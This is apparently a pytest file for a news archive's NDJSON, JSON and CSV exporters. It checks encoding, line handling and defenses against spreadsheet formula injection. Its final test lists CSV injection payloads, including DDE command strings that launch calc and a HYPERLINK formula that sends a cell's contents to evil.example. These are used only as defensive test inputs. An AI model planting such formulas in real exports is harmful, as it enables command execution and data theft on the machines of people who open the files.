import csv
import io
import json

import pytest

from articles.exports import EXPORTERS
from articles.exports.rows import article_row
from articles.models import Caption, Topic
from tests.builders import make_article

pytestmark = pytest.mark.django_db


def exported(name, *articles):
    rows = [article_row(article, "https://archive.example/") for article in articles]
    return b"".join(EXPORTERS[name].encode(rows)).decode()


def spreadsheet(*articles):
    return list(csv.DictReader(io.StringIO(exported("csv", *articles).removeprefix("\ufeff"), newline="")))


def test_ndjson_has_one_object_a_line():
    articles = [make_article(title="Tides"), make_article(title="Piers")]
    lines = exported("ndjson", *articles).split("\n")
    assert [json.loads(line)["title"] for line in lines[:-1]] == ["Tides", "Piers"]
    assert lines[-1] == ""


@pytest.mark.parametrize("end", ["\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"])
def test_no_character_in_a_title_breaks_an_ndjson_line(end):
    (line,) = exported("ndjson", make_article(title=f"Tides{end}and piers")).splitlines()
    assert json.loads(line)["title"] == f"Tides{end}and piers"


def test_chinese_is_written_as_it_is():
    assert "海洋政策" in exported("ndjson", make_article(title="海洋政策"))


def test_json_is_one_array():
    articles = [make_article(title="Tides"), make_article(title="Piers")]
    assert [row["title"] for row in json.loads(exported("json", *articles))] == ["Tides", "Piers"]


def test_no_articles_make_an_empty_array():
    assert json.loads(exported("json")) == []


def test_a_table_has_a_line_an_article():
    article = make_article(title="Tides", section="Policy", byline="By ZHOU Min")
    (line,) = spreadsheet(article)
    assert (line["id"], line["title"], line["section"], line["byline"]) == (
        str(article.pk),
        "Tides",
        "Policy",
        "By ZHOU Min",
    )


def test_a_table_without_articles_still_has_its_heading():
    assert exported("csv").startswith("\ufeffid,url,title,")


def test_a_spreadsheet_is_told_that_the_table_is_utf_8():
    assert b"".join(EXPORTERS["csv"].encode([])).startswith(b"\xef\xbb\xbf")


def test_lists_in_a_table_are_joined_by_semicolons():
    for name in ("Piers", "Tides"):
        Topic.objects.create(slug=f"x-{name.lower()}", name=name)
    (line,) = spreadsheet(make_article(authors=("ZHOU Min", "CHEN Chunyou"), topics=("x-piers", "x-tides")))
    assert line["authors"] == "ZHOU Min; CHEN Chunyou"
    assert (line["topics"], line["topic_slugs"]) == ("Piers; Tides", "x-piers; x-tides")


def test_a_caption_in_a_table_is_followed_by_its_credit():
    article = make_article()
    Caption.objects.create(article=article, position=1, text="A pier.", credit="ZHOU Min")
    Caption.objects.create(article=article, position=2, text="A tide.")
    assert spreadsheet(article)[0]["captions"] == "A pier. (ZHOU Min); A tide."


def test_line_breaks_and_quotes_survive_in_a_table():
    body = 'He said "wait".\n\nThen, silence.'
    assert spreadsheet(make_article(body=body))[0]["body"] == body


@pytest.mark.parametrize(
    "start",
    [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u3000=",
        "\ufeff+",
        "\u200b@",
        " \t=",
        "\xa0-",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_starts_with_an_apostrophe(start):
    title = f"{start}HYPERLINK(1)"
    assert spreadsheet(make_article(title=title))[0]["title"] == f"'{title}"


def test_a_table_holds_everything_that_a_row_does():
    article = make_article()
    named_otherwise = {"issue": "issue_url"}
    row = article_row(article, "https://archive.example/")
    assert {named_otherwise.get(key, key) for key in row} <= set(spreadsheet(article)[0])


@pytest.mark.parametrize(
    "payload",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example/?x="&A1,"Tides")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1-1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=1+1";=1+2',
        "\n=1+1",
        "Tides\r\n=1+1",
        'Tides","=1+1',
        '=DDE("cmd";"/C calc";"x")',
    ],
)
def test_no_cell_of_a_table_starts_a_formula(payload):
    """Read back by csv, as a spreadsheet would: what came in as one cell is one cell, and none of them runs."""
    article = make_article(title=payload, byline=payload, body=payload)
    lines = list(csv.reader(io.StringIO(exported("csv", article).removeprefix("\ufeff"), newline="")))
    assert [len(line) for line in lines] == [len(lines[0])] * 2
    assert not [cell for cell in lines[1] if cell.lstrip().startswith(("=", "+", "-", "@"))]
    assert {payload, f"'{payload}"} & set(lines[1])


def test_numbers_in_a_table_stay_numbers():
    (line,) = spreadsheet(make_article(position=7, body="Three words here."))
    assert (line["position"], line["word_count"]) == ("7", "3")
